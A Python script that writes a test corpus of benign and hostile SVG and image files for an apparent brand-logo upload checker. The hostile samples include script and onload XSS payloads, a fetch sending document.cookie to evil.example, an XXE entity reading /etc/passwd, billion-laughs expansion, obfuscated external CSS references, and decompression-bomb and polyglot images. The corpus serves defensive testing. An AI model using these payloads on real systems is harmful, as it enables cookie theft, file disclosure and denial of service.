"""Write the brand asset attack corpus next to this script.

Run `python tests/corpus/assets/make_corpus.py` after changing it; the
generated files are committed so that tests do not depend on this script's
Pillow version. Every file is small; inputs of megabytes are built in tests.
"""

from __future__ import annotations

import io
import struct
import time
import zlib
from pathlib import Path

from PIL import Image, PngImagePlugin

HERE = Path(__file__).resolve().parent
FIXED_DATE = time.gmtime(1_704_067_200)  # 2024-01-01, so the PDF is reproducible
SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
LOGO_BODY = '<rect width="96" height="24" fill="#14a800"/>'

SVGS = {
    "logo-24.svg": f'{SVG_OPEN} width="96" height="24">{LOGO_BODY}</svg>',
    "logo-24px.svg": f'<?xml version="1.0" encoding="UTF-8"?>\n{SVG_OPEN} width="96px" height="24px">{LOGO_BODY}</svg>',
    "logo-viewbox-short.svg": f'{SVG_OPEN} viewBox="0 0 96 24">{LOGO_BODY}</svg>',
    "logo-fragment-links.svg": (
        f'{SVG_OPEN} height="24" viewBox="0 0 96 24"><defs><linearGradient id="g"><stop offset="0"/></linearGradient>'
        '<path id="p" d="M0 0h8v8z"/></defs><style>rect{fill:url(#g)}</style>'
        '<use href="#p"/><use xlink:href="#p"/><rect width="96" height="24" style="fill: url( \'#g\' )"/></svg>'
    ),
    "logo-25.svg": f'{SVG_OPEN} width="100" height="25">{LOGO_BODY}</svg>',
    "logo-2em.svg": f'{SVG_OPEN} height="2em" viewBox="0 0 96 24">{LOGO_BODY}</svg>',
    "logo-viewbox-tall.svg": f'{SVG_OPEN} viewBox="0 0 96 48">{LOGO_BODY}</svg>',
    "logo-no-height.svg": f"{SVG_OPEN}>{LOGO_BODY}</svg>",
    "script.svg": f"{SVG_OPEN} height=\"24\"><script>alert(document.cookie)</script>{LOGO_BODY}</svg>",
    "xhtml-script.svg": (
        f'{SVG_OPEN} height="24"><h:SCRIPT xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:SCRIPT></svg>'
    ),
    "onload.svg": f'{SVG_OPEN} height="24" onload="alert(1)">{LOGO_BODY}</svg>',
    "onclick-uppercase.svg": f'{SVG_OPEN} height="24"><rect width="9" height="9" ONCLICK="alert(1)"/></svg>',
    "foreign-object.svg": (
        f'{SVG_OPEN} height="24"><foreignObject width="96" height="24">'
        '<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject></svg>'
    ),
    "javascript-href.svg": f'{SVG_OPEN} height="24"><a href="javascript:alert(1)">{LOGO_BODY}</a></svg>',
    "javascript-href-obfuscated.svg": (
        f'{SVG_OPEN} height="24"><a xlink:href=" jav&#x09;ascript:alert(1)">{LOGO_BODY}</a></svg>'
    ),
    "external-href.svg": f'{SVG_OPEN} height="24"><image href="https://evil.example/track.png" width="9" height="9"/></svg>',
    "external-xlink-href.svg": f'{SVG_OPEN} height="24"><use xlink:href="https://evil.example/sprite.svg#logo"/></svg>',
    "data-uri-href.svg": (
        f'{SVG_OPEN} height="24"><image width="9" height="9" '
        'href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"/></svg>'
    ),
    "css-url-external.svg": f'{SVG_OPEN} height="24"><rect width="9" height="9" style="fill:url(http://evil.example/p.svg#g)"/></svg>',
    "css-url-escaped.svg": f'{SVG_OPEN} height="24"><style>rect {{ fill: u\\72l(https://evil.example/p.svg#g) }}</style>{LOGO_BODY}</svg>',
    "presentation-url-external.svg": f'{SVG_OPEN} height="24"><rect width="9" height="9" filter="url(https://evil.example/f.svg#f)"/></svg>',
    "css-import.svg": f'{SVG_OPEN} height="24"><style>@import url("https://evil.example/x.css");</style>{LOGO_BODY}</svg>',
    "animate-href.svg": (
        f'{SVG_OPEN} height="24"><a><set attributeName="href" to="javascript:alert(1)"/>{LOGO_BODY}</a></svg>'
    ),
    "xml-stylesheet.svg": f'<?xml-stylesheet type="text/css" href="https://evil.example/x.css"?>\n{SVG_OPEN} height="24">{LOGO_BODY}</svg>',
    "doctype.svg": (
        '<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
        f"{SVG_OPEN} height=\"24\">{LOGO_BODY}</svg>"
    ),
    "doctype-empty-internal-subset.svg": (
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [ ]>\n'
        f'{SVG_OPEN} height="24">{LOGO_BODY}</svg>'
    ),
    "doctype-system-only.svg": f'<!DOCTYPE svg SYSTEM "http://evil.example/svg.dtd">\n{SVG_OPEN} height="24">{LOGO_BODY}</svg>',
    "doctype-xhtml.svg": (
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">\n'
        f'{SVG_OPEN} height="24">{LOGO_BODY}</svg>'
    ),
    "doctype-svg-tiny.svg": (
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1 Tiny//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11-tiny.dtd">\n'
        f'{SVG_OPEN} height="24">{LOGO_BODY}</svg>'
    ),
    "doctype-html-name.svg": (
        '<!DOCTYPE html PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
        f'{SVG_OPEN} height="24">{LOGO_BODY}</svg>'
    ),
    "doctype-second-in-comment.svg": (
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
        f'{SVG_OPEN} height="24"><!-- <!DOCTYPE x [<!ENTITY e "e">]> -->{LOGO_BODY}</svg>'
    ),
    "entity.svg": (
        '<!DOCTYPE svg [<!ENTITY brand "Acme">]>\n'
        f'{SVG_OPEN} height="24"><text y="20">&brand;</text></svg>'
    ),
    "external-entity.svg": (
        '<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'
        f'{SVG_OPEN} height="24"><text y="20">&secret;</text></svg>'
    ),
    "billion-laughs.svg": (
        '<?xml version="1.0"?>\n<!DOCTYPE svg [\n<!ENTITY lol "lol">\n'
        + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 or "")) * 10}">\n' for i in range(1, 10))
        + f"]>\n{SVG_OPEN} height=\"24\"><text>&lol9;</text></svg>"
    ),
    "html-not-svg.svg": "<html><body><p>hello</p></body></html>",
    "svg-without-namespace.svg": f'<svg height="24">{LOGO_BODY}</svg>',
    "not-well-formed.svg": f'{SVG_OPEN} height="24"><rect></svg>',
}

# Logos as design tools export them, and hostile files of the same shape. Each keeps its tool's
# prolog, namespaces, metadata and styling so that the checker meets what partners really upload.
ILLUSTRATOR_HEAD = (
    '<?xml version="1.0" encoding="utf-8"?>\n'
    "<!-- Generator: Adobe Illustrator 27.5.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->\n"
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
)
ILLUSTRATOR_SVG = (
    '<svg version="1.1" id="Layer_1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    ' x="0px" y="0px"\n\t width="96px" height="24px" viewBox="0 0 96 24" style="enable-background:new 0 0 96 24;"'
    ' xml:space="preserve">\n'
)
ILLUSTRATOR_BODY = (
    '<linearGradient id="SVGID_1_" gradientUnits="userSpaceOnUse" x1="0" y1="12" x2="24" y2="12">\n'
    '\t<stop  offset="0" style="stop-color:#14A800"/>\n\t<stop  offset="1" style="stop-color:#108A00"/>\n'
    "</linearGradient>\n<g>\n"
    '\t<path class="st0" d="M12,0C5.4,0,0,5.4,0,12s5.4,12,12,12s12-5.4,12-12S18.6,0,12,0z"/>\n'
    '\t<path class="st1" d="M8.5,7.2h2.3v5.6c0,1.2,0.9,2.1,2.1,2.1s2.1-0.9,2.1-2.1V7.2h2.3v5.6'
    'c0,2.5-2,4.4-4.4,4.4s-4.4-2-4.4-4.4V7.2z"/>\n'
    '\t<path class="st2" d="M30,5h4.2l3.3,9.6L40.8,5H45l-5.6,14h-3.8L30,5z M47,5h11v3H51v2.5h6v3h-6V16h7v3H47V5z"/>\n'
    "</g>\n</svg>\n"
)


def illustrator(style: str, head: str = ILLUSTRATOR_HEAD, svg: str = ILLUSTRATOR_SVG) -> str:
    """Illustrator CC "Save As SVG" (SVG 1.1, CSS Properties: Style Elements) around `style`'s rules."""
    return f'{head}{svg}<style type="text/css">\n{style}</style>\n{ILLUSTRATOR_BODY}'


ILLUSTRATOR_STYLE = "\t.st0{fill:url(#SVGID_1_);}\n\t.st1{fill:#FFFFFF;}\n\t.st2{fill:#001E00;}\n"
INKSCAPE_SVG = """<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->

<svg
   width="25.4mm"
   height="{height}"
   viewBox="0 0 25.4 6.35"
   version="1.1"
   id="svg5"{root_extra}
   inkscape:version="1.3.2 (091e20e, 2023-11-25, custom)"
   sodipodi:docname="acme-logo.svg"
   inkscape:export-filename="acme-logo.png"
   inkscape:export-xdpi="96"
   inkscape:export-ydpi="96"
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
   xmlns:xlink="http://www.w3.org/1999/xlink"
   xmlns="http://www.w3.org/2000/svg"
   xmlns:svg="http://www.w3.org/2000/svg"
   xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
   xmlns:cc="http://creativecommons.org/ns#"
   xmlns:dc="http://purl.org/dc/elements/1.1/">
  <title
     id="title1">Acme</title>
  <sodipodi:namedview
     id="namedview7"
     pagecolor="#ffffff"
     bordercolor="#000000"
     borderopacity="0.25"
     inkscape:showpageshadow="2"
     inkscape:pageopacity="0.0"
     inkscape:pagecheckerboard="0"
     inkscape:deskcolor="#d1d1d1"
     inkscape:document-units="mm"
     inkscape:zoom="8"
     inkscape:cx="48"
     inkscape:cy="12"
     inkscape:window-width="1920"
     inkscape:window-height="1011"
     inkscape:window-x="0"
     inkscape:window-y="32"
     inkscape:window-maximized="1"
     inkscape:current-layer="layer1" />
  <defs
     id="defs2">
    <linearGradient
       inkscape:collect="always"
       id="linearGradient1">
      <stop
         style="stop-color:#14a800;stop-opacity:1;"
         offset="0"
         id="stop1" />
      <stop
         style="stop-color:#108a00;stop-opacity:1;"
         offset="1"
         id="stop2" />
    </linearGradient>
    <linearGradient
       inkscape:collect="always"
       xlink:href="#linearGradient1"
       id="linearGradient3"
       x1="0"
       y1="3.175"
       x2="6.35"
       y2="3.175"
       gradientUnits="userSpaceOnUse" />
  </defs>
  <metadata
     id="metadata5">
    <rdf:RDF>
      <cc:Work
         rdf:about="">
        <dc:format>image/svg+xml</dc:format>
        <dc:type
           rdf:resource="http://purl.org/dc/dcmitype/StillImage" />
        <dc:title>Acme</dc:title>
        <cc:license
           rdf:resource="http://creativecommons.org/licenses/by-sa/4.0/" />
      </cc:Work>
    </rdf:RDF>
  </metadata>
  <g
     inkscape:label="Layer 1"
     inkscape:groupmode="layer"
     id="layer1">
    <circle
       style="fill:url(#linearGradient3);stroke:none;stroke-width:0.264583"
       id="path1"
       cx="3.175"
       cy="3.175"
       r="3.175" />
    <text
       xml:space="preserve"
       style="font-size:4.23333px;line-height:1.25;font-family:sans-serif;fill:#001e00;stroke-width:0.264583"
       x="8"
       y="4.8"
       id="text1"><tspan
         sodipodi:role="line"
         id="tspan1"
         x="8"
         y="4.8">Acme</tspan></text>{body_extra}
  </g>
</svg>
"""


def inkscape(height: str = "6.35mm", root_extra: str = "", body_extra: str = "") -> str:
    """Inkscape 1.3 "Inkscape SVG", 25.4 x 6.35 mm (96 x 24 px), with its namedview and RDF metadata."""
    return INKSCAPE_SVG.format(height=height, root_extra=root_extra, body_extra=body_extra)


FIGMA_SVG = """<svg width="96" height="24" viewBox="0 0 96 24" fill="none" xmlns="http://www.w3.org/2000/svg"{ns}>
<g clip-path="url(#clip0_1204_3381)">
<g filter="url(#filter0_d_1204_3381)">
<path d="M12 0C5.373 0 0 5.373 0 12C0 18.627 5.373 24 12 24C18.627 24 24 18.627 24 12C24 5.373 18.627 0 12 0Z" fill="#14A800"/>
</g>
<path fill-rule="evenodd" clip-rule="evenodd" d="M30 5H34.2L37.5 14.6L40.8 5H45L39.4 19H35.6L30 5Z" fill="#001E00"/>{body}
</g>
<defs>
<filter id="filter0_d_1204_3381" x="-4" y="-2" width="32" height="32" filterUnits="userSpaceOnUse" color-interpolation-filters="sRGB">
<feFlood flood-opacity="0" result="BackgroundImageFix"/>
<feColorMatrix in="SourceAlpha" type="matrix" values="0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 127 0" result="hardAlpha"/>
<feOffset dy="2"/>
<feGaussianBlur stdDeviation="2"/>
<feComposite in2="hardAlpha" operator="out"/>
<feColorMatrix type="matrix" values="0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0.25 0"/>
<feBlend mode="normal" in2="BackgroundImageFix" result="effect1_dropShadow_1204_3381"/>
<feBlend mode="normal" in="SourceGraphic" in2="effect1_dropShadow_1204_3381" result="shape"/>
</filter>
<clipPath id="clip0_1204_3381">
<rect width="96" height="24" fill="white"/>
</clipPath>{defs}
</defs>
</svg>
"""
PNG_PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
SKETCH_SVG = """<?xml version="1.0" encoding="UTF-8"?>
<svg width="96px" height="24px" viewBox="0 0 96 24" version="1.1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
    <!-- Generator: Sketch 70.3 (109185) - https://sketch.com -->
    <title>logo/acme</title>
    <defs>
        <linearGradient x1="0%" y1="50%" x2="100%" y2="50%" id="linearGradient-1">
            <stop stop-color="#14A800" offset="0%"></stop>
            <stop stop-color="#108A00" offset="100%"></stop>
        </linearGradient>
        <path d="M12,0 C18.627417,0 24,5.372583 24,12 C24,18.627417 18.627417,24 12,24 C5.372583,24 0,18.627417 0,12 C0,5.372583 5.372583,0 12,0 Z" id="path-2"></path>
    </defs>
    <g id="Page-1" stroke="none" stroke-width="1" fill="none" fill-rule="evenodd">
        <g id="logo/acme">
            <use id="Oval" fill="url(#linearGradient-1)" xlink:href="{href}"></use>
            <text id="Acme" font-family="Helvetica-Bold, Helvetica" font-size="16" font-weight="bold" fill="#001E00">
                <tspan x="30" y="18">Acme</tspan>
            </text>
        </g>
    </g>
</svg>
"""

SVGS.update({
    "illustrator-cc.svg": illustrator(ILLUSTRATOR_STYLE),
    "illustrator-cc-cdata.svg": illustrator(f"<![CDATA[\n{ILLUSTRATOR_STYLE}]]>\n"),
    "illustrator-cs6-presentation.svg": (
        ILLUSTRATOR_HEAD.replace("27.5.0", "16.0.0")
        + ILLUSTRATOR_SVG.replace('style="enable-background:new 0 0 96 24;"', 'enable-background="new 0 0 96 24"')
        + ILLUSTRATOR_BODY.replace('class="st0"', 'fill="url(#SVGID_1_)"').replace('class="st1"', 'fill="#FFFFFF"')
        .replace('class="st2"', 'fill="#001E00"')
    ),
    "illustrator-10-svg10-pt.svg": illustrator(ILLUSTRATOR_STYLE, head=(
        '<?xml version="1.0" encoding="utf-8"?>\n<!-- Generator: Adobe Illustrator 10.0, SVG Export Plug-In . '
        "SVG Version: 3.0.0 Build 77)  -->\n"
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.0//EN" "http://www.w3.org/TR/2001/REC-SVG-20010904/DTD/svg10.dtd">\n'
    ), svg=ILLUSTRATOR_SVG.replace('width="96px" height="24px"', 'width="72pt" height="18pt"')),
    "illustrator-svg-20010904.svg": illustrator(ILLUSTRATOR_STYLE, head=(
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 20010904//EN"\n\t"http://www.w3.org/TR/2001/REC-SVG-20010904/DTD/svg10.dtd">\n'
    )),
    "illustrator-entities.svg": illustrator(ILLUSTRATOR_STYLE, head=ILLUSTRATOR_HEAD.replace(
        'svg11.dtd">', 'svg11.dtd" [\n\t<!ENTITY ns_extend "http://ns.adobe.com/Extensibility/1.0/">\n'
                       '\t<!ENTITY ns_ai "http://ns.adobe.com/AdobeIllustrator/10.0/">\n]>')),
    "illustrator-style-url-external.svg": illustrator(ILLUSTRATOR_STYLE.replace(
        "url(#SVGID_1_)", "url(https://evil.example/track.svg#g)")),
    "illustrator-style-url-hex-escape.svg": illustrator(ILLUSTRATOR_STYLE.replace(
        "url(#SVGID_1_)", "\\75 rl(https://evil.example/track.svg#g)")),
    "illustrator-style-url-char-escape.svg": illustrator(ILLUSTRATOR_STYLE.replace(
        "url(#SVGID_1_)", "u\\rl(https://evil.example/track.svg#g)")),
    "illustrator-style-url-comment.svg": illustrator(ILLUSTRATOR_STYLE.replace(
        "url(#SVGID_1_)", "u/**/rl(https://evil.example/track.svg#g)")),
    "illustrator-style-url-uppercase.svg": illustrator(ILLUSTRATOR_STYLE.replace(
        "url(#SVGID_1_)", "URL( 'HTTPS://evil.example/track.svg#g' )")),
    "illustrator-style-import.svg": illustrator('@import url("https://evil.example/brand.css");\n' + ILLUSTRATOR_STYLE),
    "illustrator-style-import-escaped.svg": illustrator("@\\69 mport 'https://evil.example/brand.css';\n"
                                                        + ILLUSTRATOR_STYLE),
    "illustrator-style-attribute-url.svg": illustrator(ILLUSTRATOR_STYLE).replace(
        'style="stop-color:#14A800"', 'style="stop-color:#14A800;background:url(//evil.example/p.png)"'),
    "inkscape-1.3.svg": inkscape(),
    "inkscape-1.3-too-tall.svg": inkscape(height="7mm"),
    "inkscape-onload.svg": inkscape(root_extra='\n   onload="fetch(\'https://evil.example/\'+document.cookie)"'),
    "inkscape-script.svg": inkscape(body_extra='\n    <script\n       id="script1">alert(document.domain)</script>'),
    "inkscape-linked-image.svg": inkscape(body_extra=(
        '\n    <image\n       width="6.35"\n       height="6.35"\n       preserveAspectRatio="none"\n'
        '       xlink:href="file:///home/ada/Pictures/acme.png"\n'
        '       sodipodi:absref="/home/ada/Pictures/acme.png"\n       id="image1" />')),
    "figma.svg": FIGMA_SVG.format(ns="", body="", defs=""),
    "figma-image-fill.svg": FIGMA_SVG.format(
        ns=' xmlns:xlink="http://www.w3.org/1999/xlink"',
        body='\n<rect x="50" width="24" height="24" fill="url(#pattern0_1204_3381)"/>',
        defs=('\n<pattern id="pattern0_1204_3381" patternContentUnits="objectBoundingBox" width="1" height="1">'
              '\n<use xlink:href="#image0_1204_3381" transform="scale(0.01)"/>\n</pattern>'
              f'\n<image id="image0_1204_3381" width="100" height="100" xlink:href="data:image/png;base64,{PNG_PIXEL}"/>')),
    "sketch-70.svg": SKETCH_SVG.format(href="#path-2"),
    "sketch-external-use.svg": SKETCH_SVG.format(href="https://evil.example/sprite.svg#path-2"),
})


def picture(width: int, height: int) -> Image.Image:
    """A smooth RGB test picture, so that every size compresses well."""
    red = Image.linear_gradient("L").resize((width, height))
    green = Image.linear_gradient("L").rotate(90).resize((width, height))
    blue = Image.radial_gradient("L").resize((width, height))
    return Image.merge("RGB", (red, green, blue))


def encoded(image: Image.Image, fmt: str, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def bomb_header_png() -> bytes:
    """45 bytes: a PNG signature, an IHDR claiming 50,000 x 50,000 RGB pixels and IEND."""
    ihdr = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IEND", b"")


def exif_with_gps(orientation: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "Acme Phones"  # Make
    exif[0x0110] = "Snapper 9"  # Model
    exif[0x0112] = orientation
    exif[0x8825] = {1: "N", 2: (48.0, 51.0, 29.0), 3: "E", 4: (2.0, 17.0, 40.0)}  # GPS: Paris
    return exif


def png_with_text() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Jane Secret")
    info.add_text("Comment", "home address: 1 Rue de Rivoli", zip=True)
    info.add_itxt("Description", "GPS 48.85,2.29", lang="en", tkey="Beschreibung")
    info.add(b"tIME", struct.pack(">HBBBBB", 2024, 5, 17, 12, 0, 0))
    return encoded(picture(400, 300), "PNG", pnginfo=info, exif=exif_with_gps())


def binaries() -> dict[str, bytes]:
    good_png = encoded(picture(400, 300), "PNG")
    jpeg = encoded(picture(400, 300), "JPEG", quality=90)
    return {
        "ratio-4x3.png": good_png,
        "ratio-within-1pct.png": encoded(picture(403, 300), "PNG"),
        "ratio-outside-1pct.png": encoded(picture(405, 300), "PNG"),
        "square.jpg": encoded(picture(300, 300), "JPEG", quality=90),
        "text-chunks.png": png_with_text(),
        "exif-gps.jpg": encoded(
            picture(400, 300), "JPEG", quality=90, exif=exif_with_gps(), comment=b"shot at home",
            xmp=b'<x:xmpmeta xmlns:x="adobe:ns:meta/">secret</x:xmpmeta>',
        ),
        "rotated-portrait.jpg": encoded(picture(300, 400), "JPEG", quality=90, exif=exif_with_gps(orientation=6)),
        "rotated-landscape.jpg": encoded(picture(400, 300), "JPEG", quality=90, exif=exif_with_gps(orientation=6)),
        "progressive.jpg": encoded(picture(400, 300), "JPEG", quality=85, progressive=True, comment=b"hidden"),
        "truncated.png": good_png[: len(good_png) // 2],
        "truncated.jpg": jpeg[: len(jpeg) // 2],
        "bomb-header.png": bomb_header_png(),
        "polyglot-png-then-jpeg.png": good_png + jpeg,
        "polyglot-jpeg-then-png.jpg": jpeg + good_png,
        "png-renamed.svg": good_png,
        "svg-renamed.png": SVGS["logo-24.svg"].encode(),
        "image.gif": encoded(picture(400, 300).convert("P"), "GIF"),
        "image.webp": encoded(picture(400, 300), "WEBP", quality=50),
        "image.bmp": encoded(picture(40, 30), "BMP"),
        "document.pdf": encoded(picture(40, 30), "PDF", creationDate=FIXED_DATE, modDate=FIXED_DATE),
    }


def main() -> None:
    for name, text in SVGS.items():
        (HERE / name).write_text(text, encoding="utf-8")
    for name, data in binaries().items():
        (HERE / name).write_bytes(data)


if __name__ == "__main__":
    main()
